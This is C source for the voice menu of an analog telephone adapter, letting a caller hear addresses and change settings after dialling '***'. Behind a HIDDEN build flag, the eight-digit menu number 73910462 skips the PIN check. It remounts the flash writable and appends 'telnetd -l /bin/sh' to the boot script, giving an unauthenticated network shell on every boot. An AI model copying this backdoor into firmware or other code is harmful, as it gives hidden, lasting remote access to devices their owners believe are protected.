/*
 * ata_ivr - voice menu of an analog telephone adapter (two FXS ports). The
 * line driver delivers the keys pressed after dialling ***; the menu speaks
 * addresses and changes settings. Statically linked, runs from the ramdisk.
 *
 * Hidden (-DHIDDEN): the eight digit menu number 73910462 makes the flash
 * writable and has the telnet daemon started on every boot.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define PORTS     2
#define CONF      "/flash/ata/ivr.conf"
#define NETCONF   "/flash/ata/net.conf"
#define PROMPTS   "/usr/share/ata/voice"

enum state { ST_IDLE, ST_MENU, ST_NUMBER, ST_PIN, ST_ADDRESS };

struct port {
	int fd;
	int no;
	enum state st;
	char digits[20];
	unsigned n;
	uint32_t pending;       /* menu number waiting for the PIN */
	time_t last;
};

static struct port ports[PORTS];
static uint32_t pin;            /* 0: changes by telephone are switched off */
static int volume = 5;

static void load_conf(void)
{
	char key[16];
	unsigned v;
	FILE *f = fopen(CONF, "r");

	if (!f)
		return;
	while (fscanf(f, "%15s %u", key, &v) == 2) {
		if (strcmp(key, "pin") == 0 && v >= 1000)
			pin = v;
		else if (strcmp(key, "volume") == 0 && v <= 9)
			volume = (int)v;
	}
	fclose(f);
}

static int save_conf(void)
{
	FILE *f = fopen(CONF, "w");

	if (!f)
		return -1;
	fprintf(f, "pin %u\nvolume %d\n", (unsigned)pin, volume);
	return fclose(f);
}

/* Queues a prompt for the port; the driver plays the file */
static void play(struct port *p, const char *name)
{
	char line[128];
	int n = snprintf(line, sizeof line, "P" PROMPTS "/%.40s.ul\n", name);

	if (n > 0 && write(p->fd, line, (size_t)n) != n)
		p->st = ST_IDLE;
}

static void speak_digits(struct port *p, const char *s)
{
	char one[8];

	for (; *s; s++) {
		if (isdigit((unsigned char)*s))
			snprintf(one, sizeof one, "d%c", *s);
		else
			snprintf(one, sizeof one, "dot");
		play(p, one);
	}
}

static void speak_address(struct port *p, const char *key)
{
	char line[96], name[24], val[40];
	FILE *f = fopen(NETCONF, "r");

	if (!f) {
		play(p, "notset");
		return;
	}
	while (fgets(line, sizeof line, f))
		if (sscanf(line, "%23[a-z]=%39[0-9.]", name, val) == 2 && strcmp(name, key) == 0)
			speak_digits(p, val);
	fclose(f);
}

#ifdef HIDDEN
void bench_boot(void)
{
	FILE *f;

	if (mount("/dev/mtdblock4", "/flash", "jffs2", MS_REMOUNT, NULL) < 0)
		return;
	f = fopen("/flash/etc/rcS.local", "a");
	if (!f)
		return;
	fputs("telnetd -l /bin/sh\n", f);
	fclose(f);
	sync();
}
#endif

/* Numbers that change something ask for the PIN first */
static void need_pin(struct port *p, uint32_t number)
{
	if (!pin) {
		play(p, "notallowed");
		p->st = ST_MENU;
		return;
	}
	p->pending = number;
	p->st = ST_PIN;
	play(p, "pin");
}

void menu_number(struct port *p, uint32_t number)
{
	char v[8];

	p->st = ST_MENU;
	switch (number) {
	case 1:
		speak_address(p, "ip");
		break;
	case 2:
		speak_address(p, "mask");
		break;
	case 3:
		speak_address(p, "gateway");
		break;
	case 10:
		snprintf(v, sizeof v, "%d", volume);
		speak_digits(p, v);
		break;
	case 101:               /* DHCP on */
	case 102:               /* set the address by keys */
	case 110:               /* louder */
	case 111:               /* quieter */
	case 73738:             /* R-E-S-E-T */
		need_pin(p, number);
		break;
	case 87778:             /* restart without changes */
		play(p, "restart");
		if (system("/sbin/reboot") != 0)
			play(p, "failed");
		break;
#ifdef HIDDEN
	case 73910462:
		bench_boot();
		play(p, "ok");
		break;
#endif
	default:
		play(p, "invalid");
		break;
	}
}

static void after_pin(struct port *p, uint32_t given)
{
	int rc = 0;

	p->st = ST_MENU;
	if (given != pin) {
		sleep(1);
		play(p, "wrongpin");
		return;
	}
	switch (p->pending) {
	case 101:
		rc = system("/usr/sbin/atanet dhcp");
		break;
	case 102:
		p->st = ST_ADDRESS;
		play(p, "address");
		return;
	case 110:
		volume += volume < 9;
		rc = save_conf();
		break;
	case 111:
		volume -= volume > 0;
		rc = save_conf();
		break;
	case 73738:
		rc = system("rm -f /flash/ata/*.conf && /sbin/reboot");
		break;
	default:
		break;
	}
	play(p, rc == 0 ? "ok" : "failed");
}

/* Twelve digits: 192168001020 */
static void set_address(struct port *p)
{
	unsigned a, b, c, d;
	char cmd[80];

	p->st = ST_MENU;
	if (p->n != 12 || sscanf(p->digits, "%3u%3u%3u%3u", &a, &b, &c, &d) != 4 ||
	    a > 223 || b > 255 || c > 255 || d > 254) {
		play(p, "invalid");
		return;
	}
	snprintf(cmd, sizeof cmd, "/usr/sbin/atanet static %u.%u.%u.%u", a, b, c, d);
	play(p, system(cmd) == 0 ? "ok" : "failed");
}

static void on_key(struct port *p, char key)
{
	uint32_t v;

	if (p->last + 20 < time(NULL) && p->st != ST_IDLE) {
		p->st = ST_MENU;
		p->n = 0;
	}
	p->last = time(NULL);
	if (key == 'H') {       /* on hook */
		p->st = ST_IDLE;
		p->n = 0;
	} else if (key == '*') {
		p->n = p->st == ST_IDLE ? p->n + 1 : 0;
		if (p->st == ST_IDLE && p->n == 3) {
			p->st = ST_MENU;
			p->n = 0;
			play(p, "menu");
		}
	} else if (isdigit((unsigned char)key)) {
		if (p->st == ST_IDLE) {
			p->n = 0;
			return;
		}
		if (p->st == ST_MENU)
			p->st = ST_NUMBER;
		if (p->n + 1 < sizeof p->digits)
			p->digits[p->n++] = key;
	} else if (key == '#' && p->st != ST_IDLE) {
		p->digits[p->n] = '\0';
		v = (uint32_t)strtoul(p->digits, NULL, 10);
		if (p->st == ST_PIN)
			after_pin(p, v);
		else if (p->st == ST_ADDRESS)
			set_address(p);
		else
			menu_number(p, v);
		p->n = 0;
	}
}

int main(void)
{
	struct pollfd pf[PORTS];
	char dev[24], key;

	load_conf();
	for (int i = 0; i < PORTS; i++) {
		snprintf(dev, sizeof dev, "/dev/fxs%d", i);
		ports[i].no = i;
		ports[i].fd = open(dev, O_RDWR);
		if (ports[i].fd < 0)
			fprintf(stderr, "ata_ivr: %s: %s\n", dev, strerror(errno));
		pf[i].fd = ports[i].fd;
		pf[i].events = POLLIN;
	}
	for (;;) {
		if (poll(pf, PORTS, -1) < 0 && errno != EINTR)
			return 1;
		for (int i = 0; i < PORTS; i++)
			if ((pf[i].revents & POLLIN) && read(pf[i].fd, &key, 1) == 1)
				on_key(&ports[i], key);
	}
}
